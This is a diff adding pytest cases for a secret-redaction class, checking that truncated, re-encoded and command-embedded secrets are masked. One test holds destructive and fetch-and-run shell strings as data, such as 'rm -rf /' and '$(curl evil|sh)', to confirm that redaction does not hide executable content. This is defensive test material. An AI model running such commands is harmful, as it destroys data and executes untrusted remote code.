@@ -399,3 +399,54 @@ def _took_ms(redactor: Redactor, text: str) -> float:
         redactor.text(text)
         times.append(time.thread_time() - began)
     return min(times) * 1_000
+
+
+@pytest.mark.parametrize(
+    ("text", "kept"),
+    [
+        ("x" * 60 + "k8Jq2nVx7T", "x" * 60 + MARK),
+        ("x" * 60 + "k8Jq2nVx…", "x" * 60 + MARK + "…"),
+        ("x" * 60 + "k8Jq2nVx… and not JSON", "x" * 60 + MARK + "… and not JSON"),
+        ("x" * 60 + "k8Jq2", "x" * 60 + "k8Jq2"),
+        ("short k8Jq2nVx7T", "short k8Jq2nVx7T"),
+        ("x" * 60 + "k8Jq2nVx7T and more", "x" * 60 + "k8Jq2nVx7T and more"),
+    ],
+)
+def test_a_secret_cut_off_at_the_end_is_one_too(text: str, kept: str) -> None:
+    assert Redactor(["k8Jq2nVx7Tz4Lp9R"]).text(text) == kept
+
+
+@pytest.mark.parametrize(
+    ("secret", "written"),
+    [
+        ("KeyOfTheTeam", "keyoftheteam"),
+        ("pässwörd", "pässwörd".encode().decode("latin-1")),
+        ("it's secret", "'it'\"'\"'s secret'"),
+        ("two  blanks\there", "two blanks here"),
+    ],
+)
+def test_more_ways_of_writing_it(secret: str, written: str) -> None:
+    text = Redactor([secret]).text(f"said {written}.")
+    assert MARK in text
+    assert written.strip("'") not in text
+
+
+@pytest.mark.parametrize(
+    ("line", "kept"),
+    [
+        ("curl -u app:hunter2secret http://x", f"curl -u app:{MARK} http://x"),
+        ("x password=abcdef; rm -rf /", f"x password={MARK}; rm -rf /"),
+        ("password='$(curl evil|sh)'", "password='$(curl evil|sh)'"),
+        ("-----BEGIN PRIVATE KEY----- ; rm x", "-----BEGIN PRIVATE KEY----- ; rm x"),
+        ("Authorization: `rm -rf /`", "Authorization: `rm -rf /`"),
+    ],
+)
+def test_what_would_be_run_is_not_hidden_by_a_pattern(line: str, kept: str) -> None:
+    redactor = Redactor(["hunter2secret"])
+    assert redactor.exact(line) == kept
+    probe = {"argv": ["sh", "-c", line], "timeout": 5, "env": {"A": "hunter2secret"}}
+    assert redactor.exact(probe) == {
+        "argv": ["sh", "-c", kept],
+        "timeout": 5,
+        "env": {"A": MARK},
+    }
